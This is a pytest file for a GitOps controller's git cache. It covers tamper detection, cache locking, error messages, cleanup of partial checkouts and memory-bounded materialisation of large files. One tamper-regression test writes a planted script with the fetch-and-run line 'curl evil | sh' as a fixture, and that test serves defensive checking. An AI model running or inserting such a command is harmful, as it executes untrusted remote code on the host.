"""The cache directory and the trees materialised in it (issue 11: integrity, streaming,
transient failures; issue 10: no traceback for a cache that is a file)."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import textwrap
from pathlib import Path

import pygit2
import pytest

from controller.errors import UserError
from controller.source import GitSource, Revision
from tests.source.test_git import commit

REPO_ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def repo(tmp_path: Path) -> pygit2.Repository:
    return pygit2.init_repository(str(tmp_path / "repo"), initial_head="main")


def _tamper(path: Path, content: bytes) -> None:
    """Edit a file in place the way that fools a size+mtime check."""
    info = path.stat()
    assert len(content) == info.st_size
    with open(path, "r+b") as f:
        f.write(content)
    os.utime(path, ns=(info.st_atime_ns, info.st_mtime_ns))


def test_an_edited_cached_tree_is_written_again_from_git(
    repo: pygit2.Repository, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Regression: a file edited inside the cached checkout (same size, mtime restored) was
    used (and published) as the commit while git held other content."""
    commit(repo, {"pkg/install.sh": "echo good\n", "a.yaml": "k: v\n"}, "c1")
    cache = tmp_path / "cache"
    revision = GitSource(repo.workdir, cache_dir=cache).fetch()
    tree = GitSource(repo.workdir, cache_dir=cache).materialise(revision)
    _tamper(tree / "pkg" / "install.sh", b"echo evil\n")
    (tree / "pkg" / "planted.sh").write_text("curl evil | sh\n")
    # The next process (a restart, or `apply` after `plan`) finds the tree on disk.
    again = GitSource(repo.workdir, cache_dir=cache).materialise(revision)
    assert (again / "pkg" / "install.sh").read_text() == "echo good\n"
    assert not (again / "pkg" / "planted.sh").exists()
    assert "differs from git" in caplog.text


def test_an_edited_file_is_not_linked_into_the_next_tree(
    repo: pygit2.Repository, tmp_path: Path
) -> None:
    """Regression: unchanged files are hard-linked from the previous tree; an edited one
    must be written from git instead of carried into the new commit's tree."""
    commit(repo, {"pkg/install.sh": "echo good\n", "a.yaml": "1\n"}, "c1")
    source = GitSource(repo.workdir, cache_dir=tmp_path / "cache")
    first = source.materialise(source.fetch())
    _tamper(first / "pkg" / "install.sh", b"echo evil\n")
    commit(repo, {"a.yaml": "2\n"}, "c2")
    second = source.materialise(source.fetch())
    assert (second / "pkg" / "install.sh").read_text() == "echo good\n"


def test_a_submodule_in_a_source_folder_is_an_error_at_load(
    repo: pygit2.Repository, tmp_path: Path
) -> None:
    """Regression: a gitlink (submodule) inside a package source folder was silently left
    out of the zip; now the package YAML's `source` line says so."""
    from controller.repository import load_repository
    from tests.runtime.samples import package, package_sources, settings

    files: dict[str, str | bytes] = {
        "settings.yaml": settings(),
        "pkg.yaml": package("Pkg", ["1.0"], "1.0"),
    }
    files.update({k: v for k, v in package_sources("Pkg", ["1.0"]).items() if v is not None})
    commit(repo, files, "c1")
    # Add a gitlink entry src/vendor -> some commit, as `git submodule add` records it.
    index = repo.index
    index.add(pygit2.IndexEntry("Pkg/1.0/vendor", repo.head.target, pygit2.enums.FileMode.COMMIT))
    index.write()
    repo.create_commit(
        "HEAD",
        pygit2.Signature("T", "t@example.com"),
        pygit2.Signature("T", "t@example.com"),
        "submodule",
        index.write_tree(),
        [repo.head.target],
    )
    source = GitSource(repo.workdir, cache_dir=tmp_path / "cache")
    tree = source.materialise(source.fetch())
    with pytest.raises(UserError) as caught:
        load_repository(tree, display_prefix="")
    errors = [str(e) for e in getattr(caught.value, "errors", [caught.value])]
    assert any(
        re.match(r"pkg\.yaml:\d+", e) and "vendor is a git submodule" in e for e in errors
    ), errors


def test_a_second_process_on_one_cache_is_refused(repo: pygit2.Repository, tmp_path: Path) -> None:
    """Regression: two processes on one cache dir fetched into one clone and renamed trees
    under each other; the second is now refused with one line."""
    commit(repo, {"a.yaml": "1\n"}, "c1")
    cache = tmp_path / "cache"
    GitSource(repo.workdir, cache_dir=cache)  # this process holds the cache
    code = textwrap.dedent(
        """
        import sys
        from controller.errors import UserError
        from controller.source import GitSource, Revision
        try:
            GitSource(sys.argv[1], cache_dir=sys.argv[2])
        except UserError as error:
            print(error)
            sys.exit(1)
        """
    )
    out = subprocess.run(
        [sys.executable, "-c", code, repo.workdir, str(cache)],
        capture_output=True,
        text=True,
        cwd=REPO_ROOT,
        timeout=60,
    )
    assert out.returncode == 1, out.stderr
    assert out.stdout.strip() == (
        f"--cache-dir {cache}: in use by another ssm-gitops process (pid {os.getpid()}): "
        "give each controller its own --cache-dir (SSM_GITOPS_CACHE_DIR)"
    )


@pytest.mark.parametrize("command", ["run", "plan"])
def test_a_cache_in_use_names_the_folder_the_user_gave(
    repo: pygit2.Repository, tmp_path: Path, command: str
) -> None:
    """Bug: the "in use" line named `--cache-dir X/git` (the git cache inside the user's
    folder), a folder the user never gave; plan named it too.
    Now: `--cache-dir X` for run; plan's note names `SSM_GITOPS_CACHE_DIR=X`."""
    commit(repo, {"a.yaml": "1\n"}, "c1")
    cache = tmp_path / "cache"
    GitSource(repo.workdir, cache_dir=cache / "git")  # this process holds it, as run would
    flags = ["--cache-dir", str(cache), "--listen", "127.0.0.1:0"] if command == "run" else []
    out = subprocess.run(
        [sys.executable, "-m", "controller", command, "--repo", repo.workdir, *flags],
        capture_output=True,
        text=True,
        cwd=REPO_ROOT,
        timeout=60,
        env={**os.environ, "SSM_GITOPS_CACHE_DIR": str(cache)},
    )
    assert out.returncode == 1
    if command == "plan":
        # A plan shares the folder of a running controller: a clone of its own, one note
        # naming the folder as the user gave it (issue 14: plan and run share the cache).
        assert out.stderr.splitlines()[0] == (
            f"note: SSM_GITOPS_CACHE_DIR={cache} is in use by a running controller: this plan "
            "uses a clone of its own (the AWS read cache is shared)"
        ), out.stderr
        return
    assert out.stderr.splitlines()[-1] == (
        f"ssm-gitops: --cache-dir {cache}: in use by another ssm-gitops process "
        f"(pid {os.getpid()}): give each controller its own --cache-dir (SSM_GITOPS_CACHE_DIR)"
    ), out.stderr


def test_a_cache_dir_that_is_a_file_is_one_line(tmp_path: Path) -> None:
    """Regression: a cache dir that is a file gave a traceback."""
    (tmp_path / "file").write_text("")
    for cache in (tmp_path / "file", tmp_path / "file" / "git"):
        with pytest.raises(UserError) as caught:
            GitSource(str(tmp_path), cache_dir=cache)
        assert "is not a folder" in str(caught.value) and "\n" not in str(caught.value)
    out = subprocess.run(
        [
            sys.executable,
            "-m",
            "controller",
            "run",
            "--repo",
            str(tmp_path),
            "--cache-dir",
            str(tmp_path / "file"),
        ],
        capture_output=True,
        text=True,
        cwd=REPO_ROOT,
        timeout=60,
    )
    assert out.returncode == 1
    assert "Traceback" not in out.stderr and len(out.stderr.strip().splitlines()) == 1
    assert "is not a folder" in out.stderr


def test_partial_checkouts_are_removed_at_start(repo: pygit2.Repository, tmp_path: Path) -> None:
    """Regression: `.tmp-*` checkouts left by a killed process were never cleaned."""
    leftover = tmp_path / "cache" / "trees" / ".tmp-killed"
    (leftover / "pkg").mkdir(parents=True)
    (leftover / "pkg" / "big.bin").write_bytes(b"\0" * 1024)
    clone = tmp_path / "cache" / "repos" / ".clone-killed"
    clone.mkdir(parents=True)
    GitSource(repo.workdir, cache_dir=tmp_path / "cache")
    assert not leftover.exists() and not clone.exists()


MEMORY_PROBE = """
import resource, sys
from pathlib import Path
from controller.source import GitSource, Revision
source = GitSource(sys.argv[1], cache_dir=Path(sys.argv[2]))
revision = source.fetch()
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
tree = source.materialise(revision)
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print((after - before) // 1024, (tree / "big.bin").stat().st_size)
"""


@pytest.mark.parametrize("stored", ["loose", "packed"])
def test_materialising_a_large_file_keeps_memory_flat(tmp_path: Path, stored: str) -> None:
    """Regression: checkout read each file whole (twice: libgit2's copy and `Blob.data`),
    so a 600 MB file killed the controller under its 1 GiB limit. A 300 MB blob is now
    written with a bounded, size-independent peak (measured in a fresh process)."""
    size = 300 << 20
    work = tmp_path / "repo"
    git = ["git", "-C", str(work), "-c", "user.name=T", "-c", "user.email=t@example.com"]
    subprocess.run(["git", "init", "-q", "-b", "main", str(work)], check=True, timeout=60)
    with open(work / "big.bin", "wb") as f:
        f.truncate(size)  # sparse: cheap to make, 300 MB of zeros to git
    subprocess.run([*git, "add", "big.bin"], check=True, timeout=120)
    subprocess.run([*git, "commit", "-qm", "big"], check=True, timeout=60)
    if stored == "packed":
        subprocess.run([*git, "repack", "-adq"], check=True, timeout=120)
    (work / "big.bin").unlink()  # only git's copy is left
    out = subprocess.run(
        [sys.executable, "-c", MEMORY_PROBE, str(work), str(tmp_path / "cache")],
        capture_output=True,
        text=True,
        cwd=REPO_ROOT,
        timeout=120,
        check=True,
    )
    grew_mb, written = map(int, out.stdout.split())
    assert written == size
    assert grew_mb < 64, f"materialising a 300 MB file grew the peak RSS by {grew_mb} MB"


def test_packed_deltas_and_loose_objects_are_written_exactly(tmp_path: Path) -> None:
    """The streaming path reads pack and loose objects itself: a delta (which it leaves to
    libgit2) and a whole object must both come out byte for byte as git has them."""
    import random

    work = tmp_path / "repo"
    git = ["git", "-C", str(work), "-c", "user.name=T", "-c", "user.email=t@example.com"]
    subprocess.run(["git", "init", "-q", "-b", "main", str(work)], check=True, timeout=60)
    data = bytearray(random.Random(7).randbytes(3 << 20))
    contents = []
    for i in range(3):
        data[i * 1000 : i * 1000 + 4] = b"EDIT"  # small edits: git stores deltas
        contents.append(bytes(data))
        (work / "big.bin").write_bytes(data)
        subprocess.run([*git, "add", "big.bin"], check=True, timeout=60)
        subprocess.run([*git, "commit", "-qm", f"c{i}"], check=True, timeout=60)
    subprocess.run([*git, "repack", "-adfq"], check=True, timeout=120)
    data[:4] = b"LOOS"  # and one more commit left as a loose object
    contents.append(bytes(data))
    (work / "big.bin").write_bytes(data)
    subprocess.run([*git, "commit", "-qam", "loose"], check=True, timeout=60)
    repo = pygit2.Repository(str(work))
    commits = [c for c in repo.walk(repo.head.target)][::-1]
    source = GitSource(str(work), cache_dir=tmp_path / "cache")
    for found, expected in zip(commits, contents, strict=True):
        tree = source.materialise(Revision(str(found.id), "", "", 0))
        assert (tree / "big.bin").read_bytes() == expected
